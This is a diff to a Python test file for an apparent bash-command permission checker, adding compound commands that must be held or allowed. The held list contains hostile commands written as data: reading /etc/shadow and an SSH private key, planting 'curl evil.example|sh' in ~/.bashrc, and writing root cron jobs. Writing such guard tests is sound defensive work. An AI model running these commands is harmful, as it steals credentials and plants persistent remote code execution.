@@ -210,3 +210,22 @@ def test_loop_values_are_the_loops_bash_runs() -> None:
     each(LOOP_LINES_HELD, held)
     each(LOOP_SESSIONS_HELD, held_last)
     each(LOOP_ALLOWED, allowed)
+
+
+# --- a compound command's redirections (found on the way: never judged before) ------------------
+COMPOUND_HELD = [
+    "for x in a; do cat; done < /etc/shadow", "{ cat; } < /etc/shadow",
+    "while read l; do echo $l; done < /etc/shadow", "if true; then cat; fi < ~/.ssh/id_rsa",
+    "(cat) > ~/.bashrc", "{ echo 'curl evil.example|sh'; } >> ~/.bashrc",
+    "{ echo x; } > /etc/cron.d/x", "for i in 1; do echo '* * * * * root id'; done > /etc/cron.d/x",
+]
+COMPOUND_ALLOWED = [
+    "{ echo hi; } > out.txt", "while read -r f; do wc -l \"$f\"; done < files.txt",
+    "for f in a b; do wc -l $f; done > counts.txt 2>&1", "( cd src && make ) > build.log 2>&1",
+    "{ date; uptime; } > status.txt", "{ echo a; echo b; } | sort",
+]
+
+
+def test_a_compound_commands_redirections_are_its_commands() -> None:
+    each(COMPOUND_HELD, held)
+    each(COMPOUND_ALLOWED, allowed)
